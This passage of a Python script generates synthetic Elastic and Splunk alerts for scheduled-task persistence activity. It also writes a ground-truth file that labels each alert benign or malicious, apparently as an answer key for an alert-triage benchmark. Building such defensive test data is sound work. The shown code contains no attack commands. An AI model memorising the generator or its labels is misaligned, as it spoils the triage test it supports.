                src["kibana.alert.workflow_status_updated_at"] = fmt_z(workflow[1])
            src["kibana.alert.workflow_tags"] = list(workflow[2])
            src["kibana.alert.workflow_assignee_ids"] = []
            src["kibana.alert.status"] = "active"
            src["kibana.alert.reason"] = body.pop("_reason")
            src["kibana.alert.original_time"] = fmt_z(orig)
            src["kibana.alert.depth"] = 1
            src["kibana.alert.ancestors"] = anc
            if group_id:
                if bb is not None:
                    src["kibana.alert.building_block_type"] = "default"
                src["kibana.alert.group.id"] = group_id
                if bb is not None:
                    src["kibana.alert.group.index"] = bb
            src["kibana.space_ids"] = ["default"]
            src["kibana.version"] = KIBANA_VERSION
            src["event.kind"] = "signal"
            src.update(body)
            src["kibana.alert.uuid"] = uid
            self.docs.append((when_alert, len(self.docs), {"_index": ALERT_INDEX, "_id": uid, "_source": src}, gt))


def elastic_workflow(verdict, day, when):
    r = rng.random()
    upd = min(when + timedelta(hours=rng.randrange(1, 30), minutes=rng.randrange(60), milliseconds=rng.randrange(1000)),
              EXPORT_TIME - timedelta(minutes=rng.randrange(30, 600)))
    if day >= 12:
        return ("open", None, []) if r < 0.85 else ("acknowledged", upd, [])
    if verdict == "malicious":
        return ("acknowledged", upd, ["Incident"]) if r < 0.7 else ("open", None, [])
    if r < 0.5:
        return ("closed", upd, rng.choice([["False Positive"], [], ["False Positive", "Expected behaviour"]]))
    if r < 0.65:
        return ("acknowledged", upd, [])
    return ("open", None, [])


def anc(index, n=1):
    return [{"id": ancestor_id(), "type": "event", "index": index, "depth": 0} for _ in range(n)]


SEC_IDX = ".ds-logs-system.security-default-2026.11.01-000014"
PROC_IDX = ".ds-logs-endpoint.events.process-default-2026.11.01-000022"
FILE_IDX = ".ds-logs-endpoint.events.file-default-2026.11.01-000019"
REG_IDX = ".ds-logs-endpoint.events.registry-default-2026.11.01-000017"
LIB_IDX = ".ds-logs-endpoint.events.library-default-2026.11.01-000016"


def task_body(rule, ev, code, sev):
    return {"_reason": reason(rule, sev, ev, "iam"), "host": host_obj(ev["host"]), "user": user_obj(ev["subject"]),
            "event": win_event_obj(ev, code), "winlog": winlog_task(ev, code),
            "data_stream": {"dataset": "system.security", "namespace": "default", "type": "logs"},
            "message": task_message(ev, code)}


def make_alerts(rule, ev, sink):
    R = ELASTIC_RULES[rule]
    notes = check_notes(rule, ev["story"], R["notes"])
    gt = dict(verdict=ev["story"]["verdict"], notes=notes, scenario=ev["story"]["scenario"])
    when = ev["time"] + timedelta(minutes=rng.randrange(3, 8), seconds=rng.randrange(60), milliseconds=rng.randrange(1000))
    wf = elastic_workflow(ev["story"]["verdict"], day_of(ev), when)
    sev, k = R["severity"], ev["kind"]
    if k in ("4698", "4702"):
        parts = [(task_body(rule, ev, k, sev), ev["time"], anc(SEC_IDX), None)]
    elif k == "tmp_task":
        c, d = ev["created"], ev["deleted"]
        shell = {"_reason": reason(rule, sev, c, "iam"), "host": host_obj(c["host"], full=False),
                 "user": user_obj(c["subject"]), "winlog": {"event_data": {"TaskName": c["task_name"]}}}
        parts = [(shell, c["time"], anc(SEC_IDX, 2), None),
                 (task_body(rule, c, "4698", sev), c["time"], anc(SEC_IDX), 0),
                 (task_body(rule, d, "4699", sev), d["time"], anc(SEC_IDX), 1)]
    elif k == "proc":
        pobj = proc_obj(ev)
        body = {"_reason": reason(rule, sev, ev, "process", " with process %s, parent process %s" % (ev["name"], ev["parent_name"])),
                "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
                "event": {"action": "start", "category": ["process"], "type": ["start"],
                          "dataset": "endpoint.events.process", "module": "endpoint", "outcome": "unknown"},
                "process": pobj, "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"}}
        if rule == "Local Scheduled Task Creation":
            shell = {"_reason": reason(rule, sev, ev, "process", " with process %s" % ev["name"]),
                     "host": host_obj(ev["host"], full=False), "user": {"name": ev["user"][1], "domain": ev["user"][0]}}
            parts = [(shell, ev["time"] - timedelta(milliseconds=rng.randrange(300, 3000)), anc(PROC_IDX, 2), None),
                     (body, ev["time"], anc(PROC_IDX), 1)]
        else:
            parts = [(body, ev["time"], anc(PROC_IDX), None)]
    elif k == "script_task":
        eid = entity_id(ev["host"], ev["pid"], ev["time"])
        pshort = {"name": ev["image"].split("\\")[-1], "executable": ev["image"], "pid": ev["pid"], "entity_id": eid}
        shell = {"_reason": reason(rule, sev, ev, "library", " with process %s" % pshort["name"]),
                 "host": host_obj(ev["host"], full=False), "user": {"name": ev["user"][1], "domain": ev["user"][0]},
                 "process": {"entity_id": eid, "name": pshort["name"]}}
        lib = {"_reason": reason(rule, sev, ev, "library", " with process %s, file taskschd.dll" % pshort["name"]),
               "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
               "event": {"action": "load", "category": ["library"], "type": ["start"],
                         "dataset": "endpoint.events.library", "module": "endpoint"},
               "dll": {"name": "taskschd.dll", "path": "C:\\Windows\\System32\\taskschd.dll",
                       "code_signature": {"trusted": True, "subject_name": "Microsoft Windows", "status": "trusted"}},
               "process": dict(pshort, command_line=ev["cmdline"], args=win_args(ev["cmdline"]),
                               parent={"name": ev["parent_image"].split("\\")[-1], "executable": ev["parent_image"]}),
               "data_stream": {"dataset": "endpoint.events.library", "namespace": "default", "type": "logs"}}
        reg_t = ev["time"] + timedelta(milliseconds=rng.randrange(200, 900))
        regp = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\%s\\Actions" % ev["task_key"]
        regb = {"_reason": reason(rule, sev, ev, "registry", " with process %s" % pshort["name"]),
                "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
                "event": {"action": "modification", "category": ["registry"], "type": ["change"],
                          "dataset": "endpoint.events.registry", "module": "endpoint"},
                "registry": {"hive": "HKLM", "path": regp, "key": regp.rsplit("\\", 1)[0][5:], "value": "Actions",
                             "data": {"type": "REG_BINARY"}},
                "process": pshort, "data_stream": {"dataset": "endpoint.events.registry", "namespace": "default", "type": "logs"}}
        parts = [(shell, ev["time"], anc(LIB_IDX) + anc(REG_IDX), None), (lib, ev["time"], anc(LIB_IDX), 0),
                 (regb, reg_t, anc(REG_IDX), 1)]
    elif k == "wfile":
        name = ev["path"].split("\\")[-1]
        body = {"_reason": reason(rule, sev, ev, "file", " with process %s, file %s" % (ev["name"], name)),
                "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
                "event": {"action": "overwrite" if "SYSVOL" in ev["path"] else "creation", "category": ["file"],
                          "type": ["change"] if "SYSVOL" in ev["path"] else ["creation"],
                          "dataset": "endpoint.events.file", "module": "endpoint"},
                "file": {"path": ev["path"], "name": name, "directory": ev["path"].rsplit("\\", 1)[0],
                         "extension": name.rsplit(".", 1)[-1]},
                "process": {"name": ev["name"], "pid": ev["pid"]} if ev["image"] is None else
                {"name": ev["name"], "executable": ev["image"], "pid": ev["pid"]},
                "data_stream": {"dataset": "endpoint.events.file", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(FILE_IDX), None)]
    elif k == "5145":
        dom, name, sid = ev["subject"]
        ed = {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": dom, "SubjectLogonId": ev["logon_id"],
              "ObjectType": "File", "IpAddress": ev["ip"], "IpPort": ev["port"], "ShareName": "\\\\*\\SYSVOL",
              "ShareLocalPath": "\\??\\C:\\Windows\\SYSVOL\\sysvol", "RelativeTargetName": ev["rel"],
              "AccessMask": "0x2", "AccessList": "%%4417\n\t\t\t\t",
              "AccessReason": "%%1541:\t%%1801\tD:(A;;FA;;;BA)\n\t\t\t\t"}
        body = {"_reason": reason(rule, sev, ev, "file"), "host": host_obj(ev["host"]), "user": user_obj(ev["subject"]),
                "source": {"ip": ev["ip"], "port": int(ev["port"])},
                "event": {"code": "5145", "action": "network-share-object-access-checked", "category": ["network", "file"],
                          "type": ["info", "access"], "provider": "Microsoft-Windows-Security-Auditing",
                          "outcome": "success", "module": "system", "dataset": "system.security",
                          "created": fmt_z(ev["time"] + timedelta(seconds=2)), "ingested": fmt_z(ev["time"] + timedelta(seconds=8))},
                "winlog": {"channel": "Security", "computer_name": ed_fqdn(ev["host"]), "event_id": "5145",
                           "provider_name": "Microsoft-Windows-Security-Auditing",
                           "provider_guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "record_id": ev["record_id"],
                           "version": 1, "keywords": ["Audit Success"], "event_data": ed},
                "data_stream": {"dataset": "system.security", "namespace": "default", "type": "logs"},
                "message": ("A network share object was checked to see whether client can be granted desired access.\n\n"
                            "Subject:\n\tSecurity ID:\t\t%s\n\tAccount Name:\t\t%s\n\tAccount Domain:\t\t%s\n\tLogon ID:\t\t%s\n\n"
                            "Network Information:\t\n\tObject Type:\t\tFile\n\tSource Address:\t\t%s\n\tSource Port:\t\t%s\n\n"
                            "Share Information:\n\tShare Name:\t\t\\\\*\\SYSVOL\n\tShare Path:\t\t\\??\\C:\\Windows\\SYSVOL\\sysvol\n"
                            "\tRelative Target Name:\t%s\n\nAccess Request Information:\n\tAccess Mask:\t\t0x2\n"
                            "\tAccesses:\t\tWriteData (or AddFile)\n\t\t\t\t"
                            % (sid, name, dom, ev["logon_id"], ev["ip"], ev["port"], ev["rel"]))}
        parts = [(body, ev["time"], anc(SEC_IDX), None)]
    elif k == "reg":
        regp = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt"
        body = {"_reason": reason(rule, sev, ev, "registry", " with process reg.exe"), "host": host_obj(ev["host"]),
                "user": user_obj(ev["user"]),
                "event": {"action": "modification", "category": ["registry"], "type": ["change"],
                          "dataset": "endpoint.events.registry", "module": "endpoint"},
                "registry": {"hive": "HKLM", "path": regp, "key": "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration",
                             "value": "EnableAt", "data": {"strings": ["1"], "type": "REG_DWORD"}},
                "process": {"name": "reg.exe", "executable": ev["image"], "pid": ev["pid"], "command_line": ev["cmdline"],
                            "args": win_args(ev["cmdline"])},
                "data_stream": {"dataset": "endpoint.events.registry", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(REG_IDX), None)]
    elif k == "lfile":
        fname = ev["path"].rsplit("/", 1)[1]
        f = {"path": ev["path"], "name": fname, "directory": ev["path"].rsplit("/", 1)[0]}
        if "." in fname.strip("."):
            f["extension"] = fname.rsplit(".", 1)[1]
        body = {"_reason": reason(rule, sev, ev, "file", " with process %s, file %s" % (ev["name"], fname)),
                "host": host_obj(ev["host"]), "user": luser_obj(ev),
                "event": {"action": ev["action"], "category": ["file"], "type": ["creation"],
                          "dataset": "endpoint.events.file", "module": "endpoint"},
                "file": f, "process": lproc_obj(ev),
                "data_stream": {"dataset": "endpoint.events.file", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(FILE_IDX), None)]
    elif k == "lproc":
        body = {"_reason": reason(rule, sev, ev, "process", " with process %s, parent process %s" % (ev["name"], ev["parent_name"])),
                "host": host_obj(ev["host"]), "user": luser_obj(ev),
                "event": {"action": "exec", "category": ["process"], "type": ["start"],
                          "dataset": "endpoint.events.process", "module": "endpoint"},
                "process": lproc_obj(ev),
                "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(PROC_IDX), None)]
    else:
        raise SystemExit("no Elastic renderer for %s" % k)
    sink.add(rule, ev, parts, gt, when, wf)


# ----------------------------------------------------------------------------------------------
# Output
# ----------------------------------------------------------------------------------------------

def note_ids(notes):
    return ";".join("t1053-%02d" % n for n in notes)


def main():
    build_events()
    splunk, sink = [], AlertSink()
    for ev in EVENTS:
        k = ev["kind"]
        if k not in ("tmp_task", "script_task", "5145", "wfile", "4702"):
            for rule in splunk_match(ev):
                row, when, gt = make_notable(rule, ev)
                splunk.append((when, len(splunk), row, gt))
        for rule in elastic_match(ev):
            make_alerts(rule, ev, sink)
    # every benign story must have produced at least one record for each rule it declared
    # (guards against typos in the declared rule names)
    for ev in EVENTS:
        st = ev["story"]
        fired = set(splunk_match(ev) if ev["kind"] not in ("tmp_task", "script_task", "5145", "wfile", "4702") else [])
        fired |= set(elastic_match(ev))
        for r in st["notes"]:
            if r not in SPLUNK_RULES and r not in ELASTIC_RULES:
                raise SystemExit("unknown rule %r in story %r" % (r, st["scenario"]))
        if st["verdict"] == "benign" and not fired:
            raise SystemExit("benign event fires nothing: %r" % st["scenario"])
    splunk.sort(key=lambda r: (-r[0].timestamp(), r[1]))  # Incident Review: newest first
    docs = sorted(sink.docs, key=lambda d: (-d[0].timestamp(), d[1]))

    with open(os.path.join(OUT_DIR, "splunk_notables.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(SPLUNK_HEADER)
        for _, _, row, _ in splunk:
            w.writerow([row[c] for c in SPLUNK_HEADER])
    with open(os.path.join(OUT_DIR, "elastic_alerts.ndjson"), "w", encoding="utf-8", newline="\n") as f:
        for _, _, doc, _ in docs:
            f.write(json.dumps(doc, separators=(",", ":"), ensure_ascii=False) + "\n")
    with open(os.path.join(OUT_DIR, "ground_truth.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["source_file", "record_no", "verdict", "notes", "scenario"])
        for i, (_, _, _, gt) in enumerate(splunk):
            w.writerow(["splunk_notables.csv", i, gt["verdict"], note_ids(gt["notes"]), gt["scenario"]])
        for i, (_, _, _, gt) in enumerate(docs):
            w.writerow(["elastic_alerts.ndjson", i, gt["verdict"], note_ids(gt["notes"]), gt["scenario"]])

    def count(rows):
        m = sum(1 for r in rows if r[3]["verdict"] == "malicious")
        return len(rows), len(rows) - m, m
    for name, rows in (("splunk_notables.csv", splunk), ("elastic_alerts.ndjson", docs)):
        n, b, m = count(rows)
        print("%-22s %4d records  benign %4d  malicious %3d" % (name, n, b, m))


if __name__ == "__main__":
    main()
